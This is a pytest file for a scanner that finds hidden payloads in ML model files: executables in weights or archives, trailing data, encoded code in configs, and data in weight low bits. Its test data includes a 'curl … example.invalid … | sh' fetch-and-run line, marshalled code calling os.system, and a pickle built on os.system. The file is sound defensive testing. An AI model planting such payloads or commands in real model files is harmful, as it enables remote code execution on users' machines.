"""Hidden payloads (the ``entropy`` scanner): executables in or beside model content, data
after a format's end, encoded blobs in configs and metadata, payloads in weight LSBs.

Covers and files are made by the real libraries (torch, safetensors, numpy, zipfile,
sklearn); payloads are harmless (an echo script, random bytes, a zip of text)."""

from __future__ import annotations

import base64
import io
import json
import marshal
import struct
import warnings
import zipfile
from pathlib import Path

import numpy as np
import pytest
import torch
from fixtures.archives import zip_bytes
from fixtures.models import (
    SCRIPT,
    embed,
    fuzz,
    png_bytes,
    randn,
    scan_bytes,
    scan_path,
    zip_payload,
)
from safetensors.numpy import save as st_save

from hexscan.formats.kinds import Format
from hexscan.model.severity import Severity
from hexscan.parsers import lsb, sniff
from hexscan.scanners.entropy import EntropyScanner
from hexscan.scanners.registry import load_scanners

SCANNER = EntropyScanner()


def elf_bytes() -> bytes:
    """A minimal, valid ELF64 header (x86-64 executable) followed by padding."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header = ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1,
                                 64, 0, 0)
    return header + bytes(64)


def pe_bytes() -> bytes:
    dos = bytearray(b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80))
    dos += bytes(0x80 - len(dos)) + b"PE\x00\x00" + struct.pack("<H", 0x8664) + bytes(32)
    return bytes(dos)


def pay(findings: list, rule: str) -> list:
    return [f for f in findings if f.rule.id == rule]


# --- HEX-PAY-001 ---------------------------------------------------------------------------

def test_validated_headers() -> None:
    assert sniff.executable_at(elf_bytes(), 0) == "ELF"
    assert sniff.executable_at(pe_bytes(), 0) == "PE"
    assert sniff.executable_at(SCRIPT, 0) == "script"
    assert sniff.executable_at(b"\x7fELF" + bytes(60), 0) is None
    assert sniff.executable_at(b"MZ" + bytes(100), 0) is None


@pytest.mark.parametrize(("blob", "kind"), [(elf_bytes(), "ELF"), (pe_bytes(), "PE"),
                                            (SCRIPT, "script")], ids=["elf", "pe", "script"])
def test_executable_embedded_in_safetensors_weights(blob: bytes, kind: str) -> None:
    weights = np.random.default_rng(0).normal(0, 0.02, 40_000).astype(np.float32).tobytes()
    data = st_save({"w": np.frombuffer(weights[:80_000] + blob + weights[80_000 + len(blob):],
                                       np.float32)})
    (finding,) = pay(scan_bytes(SCANNER, "model.safetensors", data), "HEX-PAY-001")
    assert finding.evidence["kind"] == kind and finding.offset > 80_000
    assert finding.effective_severity is (Severity.MEDIUM if kind == "script" else Severity.HIGH)


def test_benign_weights_have_no_embedded_executables() -> None:
    for seed in range(8):
        arr = np.random.default_rng(seed).normal(0, 1, 300_000).astype(np.float32)
        assert pay(scan_bytes(SCANNER, "m.safetensors", st_save({"w": arr})), "HEX-PAY-001") == []


def test_shared_object_inside_a_torch_zip(tmp_path: Path) -> None:
    buf = io.BytesIO()
    torch.save({"w": torch.ones(4)}, buf)
    with zipfile.ZipFile(buf, "a") as zf:
        zf.writestr("archive/extra/libpayload.so", elf_bytes())
        zf.writestr("archive/extra/run.sh", SCRIPT)
    path = tmp_path / "model.pt"
    path.write_bytes(buf.getvalue())
    found = {f.member: f for f in scan_path(path).findings if f.rule.id == "HEX-PAY-001"}
    assert found["archive/extra/libpayload.so"].effective_severity is Severity.HIGH
    assert found["archive/extra/run.sh"].effective_severity is Severity.MEDIUM


def test_shebang_script_in_a_model_dir_archive(tmp_path: Path) -> None:
    path = tmp_path / "model-dir.zip"
    path.write_bytes(zip_bytes([("model/config.json", b'{"a": 1}'), ("model/setup.sh", SCRIPT),
                                ("model/modeling.py", b"import torch\n")]))
    found = {f.member: f.effective_severity for f in scan_path(path).findings
             if f.rule.id == "HEX-PAY-001"}
    assert found == {"model/setup.sh": Severity.MEDIUM, "model/modeling.py": Severity.LOW}


def test_torchscript_code_is_not_reported(tmp_path: Path) -> None:
    path = tmp_path / "scripted.pt"
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), str(path))
    assert pay(list(scan_path(path).findings), "HEX-PAY-001") == []


# --- HEX-PAY-002 ---------------------------------------------------------------------------

def npy(arr: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, arr)
    return buf.getvalue()


def test_npy_and_zip_trailing_data() -> None:
    data = npy(np.arange(100, dtype=np.float32)) + SCRIPT
    (finding,) = pay(scan_bytes(SCANNER, "a.npy", data), "HEX-PAY-002")
    assert finding.effective_severity is Severity.HIGH
    assert "script" in finding.evidence["looks_like"]
    assert finding.offset == len(data) - len(SCRIPT)
    zipped = zip_bytes([("a.txt", b"hello")]) + b"some appended text " * 10
    (finding,) = pay(scan_bytes(SCANNER, "a.zip", zipped), "HEX-PAY-002")
    assert finding.effective_severity is Severity.MEDIUM
    assert finding.evidence["looks_like"] == "text"


def test_png_with_appended_pickle(tmp_path: Path) -> None:
    data = png_bytes() + b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00}\x94\x8c\x01a\x94K\x01s."
    (finding,) = pay(scan_bytes(SCANNER, "cat.png", data), "HEX-PAY-002")
    assert finding.evidence["looks_like"] == "pickle" and finding.offset == len(png_bytes())


def test_clean_files_have_no_trailing_data(tmp_path: Path) -> None:
    assert pay(scan_bytes(SCANNER, "a.npy", npy(np.ones((3, 4)))), "HEX-PAY-002") == []
    assert pay(scan_bytes(SCANNER, "a.zip", zip_bytes([("a", b"b")])), "HEX-PAY-002") == []
    buf = io.BytesIO()
    torch.save({"w": torch.ones(3)}, buf)
    assert pay(scan_bytes(SCANNER, "m.pt", buf.getvalue(), fmt=Format.PYTORCH_ZIP),
               "HEX-PAY-002") == []


# --- HEX-PAY-003 ---------------------------------------------------------------------------

def test_keras_lambda_style_marshalled_code_in_config() -> None:
    source = "def f(x):\n    import os\n    return os.system('echo hex-test') or x * 2.0\n"
    code = marshal.dumps(compile(source, "<lambda>", "exec"))
    config = {"class_name": "Lambda", "config": {
        "function": [base64.b64encode(code).decode(), None, None]}}
    (finding,) = pay(scan_bytes(SCANNER, "config.json", json.dumps(config).encode()),
                     "HEX-PAY-003")
    assert finding.effective_severity is Severity.HIGH
    assert finding.evidence["decodes_to"] == "marshalled Python code"


def test_base64_pickle_in_safetensors_metadata() -> None:
    blob = base64.b64encode(b"\x80\x04\x95" + bytes(8) + b"cos\nsystem\n" * 40).decode()
    data = st_save({"w": np.ones(4, np.float32)}, metadata={"note": blob})
    (finding,) = pay(scan_bytes(SCANNER, "m.safetensors", data), "HEX-PAY-003")
    assert finding.evidence["path"] == "__metadata__.note"


def test_random_blob_is_low_and_benign_configs_are_clean() -> None:
    blob = base64.b64encode(np.random.default_rng(0).bytes(3000)).decode()
    (finding,) = pay(scan_bytes(SCANNER, "config.json", json.dumps({"x": blob}).encode()),
                     "HEX-PAY-003")
    assert finding.effective_severity is Severity.LOW
    tokenizer = {"normalizer": {"type": "Precompiled", "precompiled_charsmap": blob},
                 "chat_template": "{% for m in messages %}{{ m['content'] }} {% endfor %}" * 20}
    assert pay(scan_bytes(SCANNER, "tokenizer.json", json.dumps(tokenizer).encode()),
               "HEX-PAY-003") == []


# --- HEX-PAY-004 ---------------------------------------------------------------------------

def lsb_hits(arr: np.ndarray) -> list:
    return pay(scan_bytes(SCANNER, "model.safetensors", st_save({"w": arr})), "HEX-PAY-004")


@pytest.mark.parametrize("k", [1, 2, 4, 8])
def test_zip_in_the_low_bits_of_float32(k: int) -> None:
    (finding,) = lsb_hits(embed(randn(), zip_payload(), k))
    assert finding.evidence["test"] == "header" and finding.evidence["low_bits"] == k
    assert "zip archive" in finding.message


def test_zip_in_the_low_bits_of_float16() -> None:
    (finding,) = lsb_hits(embed(randn().astype(np.float16), zip_payload(), 2))
    assert finding.evidence["dtype"] == "F16"


@pytest.mark.parametrize(("size", "k"), [(45_000, 2), (4_000, 1), (4_000, 4)])
def test_text_payload_without_header_is_found_by_statistics(size: int, k: int) -> None:
    text = (b"echo hex-test; curl -s https://example.invalid/x | sh; " * 1000)[:size]
    (finding,) = lsb_hits(embed(randn(), text, k))
    assert finding.evidence["test"] == "planes" and finding.evidence["z_low"] > 60


def test_random_payload_in_a_cast_cover_is_found_by_statistics() -> None:
    cover = np.random.default_rng(3).normal(0, 1, (512, 512)).astype(np.float16).astype(np.float32)
    payload = np.random.default_rng(4).bytes(60_000)
    (finding,) = lsb_hits(embed(cover, payload, 4))
    assert finding.evidence["test"] == "planes"


def test_random_payload_in_random_low_bits_is_undetectable_by_design() -> None:
    """Documented limit: random bits in low bits that were already random change nothing
    measurable; only a header or structure gives such a payload away."""
    assert lsb_hits(embed(randn(), np.random.default_rng(9).bytes(20_000), 2)) == []


def test_payload_in_a_torch_storage_member(tmp_path: Path) -> None:
    path = tmp_path / "model.pt"
    torch.save({"w": torch.from_numpy(embed(randn(), zip_payload(), 2))}, str(path))
    found = [f for f in scan_path(path).findings if f.rule.id == "HEX-PAY-004"]
    assert found and found[0].member.startswith("model/data/")


def test_payload_in_an_npy_array() -> None:
    (finding,) = pay(scan_bytes(SCANNER, "w.npy", npy(embed(randn(), zip_payload(), 1))),
                     "HEX-PAY-004")
    assert finding.evidence["low_bits"] == 1


def benign_tensors() -> list[tuple[str, np.ndarray]]:
    """Trained, initialised, cast and quantised weights (the calibration set's kinds)."""
    from sklearn.datasets import load_digits
    from sklearn.neural_network import MLPClassifier

    rng = np.random.default_rng(0)
    x, y = load_digits(return_X_y=True)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        mlp = MLPClassifier(hidden_layer_sizes=(256,), max_iter=5, random_state=0).fit(x / 16, y)
    net = torch.nn.Sequential(torch.nn.Linear(64, 512), torch.nn.ReLU(), torch.nn.Linear(512, 10))
    opt = torch.optim.Adam(net.parameters(), 1e-3)
    xt, yt = torch.tensor(x / 16, dtype=torch.float32), torch.tensor(y)
    for _ in range(20):
        opt.zero_grad()
        torch.nn.functional.cross_entropy(net(xt), yt).backward()
        opt.step()
    out = [("sklearn-mlp", mlp.coefs_[0].astype(np.float32)),
           ("torch-trained", net[0].weight.detach().numpy()),
           ("torch-trained-f16", net[0].weight.detach().half().numpy())]
    for seed in range(2):
        shape = (int(rng.integers(128, 400)), int(rng.integers(128, 400)))
        out += [("randn", randn(seed, shape)), ("randn-f16", randn(seed, shape).astype(np.float16)),
                ("normal-0.02", rng.normal(0, 0.02, shape).astype(np.float32)),
                ("int8-dequant", (rng.integers(-127, 128, shape) * np.float32(0.0123))
                 .astype(np.float32)),
                ("f16-upcast", rng.normal(0, 1, shape).astype(np.float16).astype(np.float32)),
                ("bf16-upcast", torch.randn(shape).bfloat16().float().numpy()),
                ("near-one", (1 + 1e-5 * np.abs(rng.normal(0, 1, shape))).astype(np.float32))]
        pruned = rng.normal(0, 0.05, shape).astype(np.float32)
        pruned[rng.random(shape) < 0.5] = 0
        out.append(("pruned", pruned))
    return out


def test_benign_weights_do_not_trigger_the_lsb_test() -> None:
    false = [name for name, arr in benign_tensors() if lsb_hits(arr)]
    assert false == []


def test_lsb_test_needs_numpy_only(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(lsb, "numpy_or_none", lambda: None)
    assert lsb_hits(embed(randn(), zip_payload(), 2)) == []


# --- robustness and --skip -----------------------------------------------------------------

def test_skip_entropy_turns_the_family_off() -> None:
    assert "entropy" not in {s.name for s in load_scanners(skip=["entropy"])}
    assert "entropy" in {s.name for s in load_scanners()}


@pytest.mark.parametrize(("name", "seed"), [
    ("m.safetensors", st_save({"w": np.ones(2_000, np.float32)}, metadata={"a": "b" * 300})),
    ("a.npy", npy(np.arange(3_000, dtype=np.float32))),
    ("config.json", json.dumps({"x": "QUJD" * 100, "y": [1, {"z": "t"}]}).encode()),
    ("a.zip", zip_bytes([("a.txt", b"x" * 100)]) + b"tail"),
], ids=["safetensors", "npy", "json", "zip"])
def test_fuzzed_inputs_only_raise_parse_or_limit_errors(name: str, seed: bytes) -> None:
    outcome = fuzz(lambda d: scan_bytes(SCANNER, name, d), [seed], rounds=2000)
    assert sum(outcome.values()) == 2000


def test_reads_are_bounded_for_a_large_sparse_file(tmp_path: Path) -> None:
    path = tmp_path / "big.safetensors"
    header = json.dumps({"w": {"dtype": "F32", "shape": [1 << 28],
                               "data_offsets": [0, 1 << 30]}}).encode()
    with open(path, "wb") as stream:
        stream.write(struct.pack("<Q", len(header)) + header)
        stream.truncate(8 + len(header) + (1 << 30))
    result = scan_path(path)
    assert not [e for e in result.errors if e.kind in ("crash", "scanner-error", "timeout")]
